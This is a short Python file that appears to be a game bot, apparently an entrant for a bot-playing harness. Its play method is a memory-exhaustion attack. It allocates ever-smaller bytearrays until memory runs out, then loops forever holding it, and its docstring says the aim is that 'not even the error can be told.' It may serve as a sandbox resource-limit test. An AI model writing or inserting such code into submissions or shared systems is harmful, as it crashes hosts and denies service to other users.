"""Takes all memory and holds on to it, so that not even the error can be told."""

TAKEN = []


class Bot:
    def play(self, observation):
        size = 1 << 24
        while size:
            try:
                while True:
                    TAKEN.append(bytearray(size))
            except MemoryError:
                size >>= 1
        while True:
            TAKEN.append([TAKEN])
